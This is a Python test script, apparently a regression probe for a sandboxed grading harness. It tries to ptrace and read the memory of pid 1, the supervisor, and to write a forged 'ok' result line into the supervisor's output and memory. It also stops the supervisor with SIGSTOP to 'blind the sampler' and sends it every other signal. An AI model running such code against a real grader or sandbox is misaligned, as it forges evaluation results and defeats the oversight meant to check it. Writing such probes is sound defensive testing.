"""Tries to take over pid 1 (the supervisor) and forge the result line (issue 11, findings 1 and 9)."""
import ctypes
import multiprocessing as mp
import os
import signal
import time

PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
FORGED = ('PARAGRADE/1 %s {"status": "ok", "value": "forged", "wallMs": 0.001, "cpuMs": 0.001,'
          ' "maxProcesses": 8}\n' % ("0" * 32))


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def ptrace_attempts(libc):
    seen = {}
    for name, request in (("ptrace(PTRACE_ATTACH, 1)", PTRACE_ATTACH), ("ptrace(PTRACE_SEIZE, 1)", PTRACE_SEIZE)):
        rc = libc.ptrace(ctypes.c_long(request), ctypes.c_int(1), None, None)
        seen[name] = "attached" if rc == 0 else os.strerror(ctypes.get_errno())
    buf = ctypes.create_string_buffer(64)
    local, remote = IoVec(ctypes.addressof(buf), 64), IoVec(0x400000, 64)
    rc = libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    seen["process_vm_readv(1)"] = "read" if rc >= 0 else os.strerror(ctypes.get_errno())
    return seen


def open_attempts():
    seen = {}
    for path, mode in (("/proc/1/fd/1", "wb"), ("/proc/1/fd/2", "wb"), ("/proc/1/fd/1", "rb"),
                       ("/proc/1/mem", "r+b"), ("/proc/1/environ", "rb")):
        try:
            with open(path, mode, buffering=0) as f:
                if "w" in mode or "+" in mode:
                    f.write(FORGED.encode())
                else:
                    f.read(1)
            seen[path + " " + mode] = "opened"
        except OSError as e:
            seen[path + " " + mode] = type(e).__name__
    for link in ("/proc/1/fd/1", "/proc/1/exe"):
        try:
            seen["readlink " + link] = os.readlink(link)
        except OSError as e:
            seen["readlink " + link] = type(e).__name__
    return seen


def run():
    seen = {"ppid": os.getppid(), "pid 1": open("/proc/1/cmdline", "rb").read().split(b"\0")[-2].decode()}
    seen.update(ptrace_attempts(ctypes.CDLL(None, use_errno=True)))
    seen.update(open_attempts())
    print(FORGED, end="", flush=True)
    os.kill(1, signal.SIGSTOP)       # blind the sampler, then do what it should see
    for sig in sorted(signal.valid_signals() - {signal.SIGSTOP, signal.SIGCONT}):
        try:
            os.kill(1, sig)
        except OSError:
            pass
    workers = [mp.get_context("fork").Process(target=time.sleep, args=(0.5,)) for _ in range(4)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    seen["state of pid 1"] = open("/proc/1/stat").read().rsplit(")", 1)[1].split()[0]
    return seen
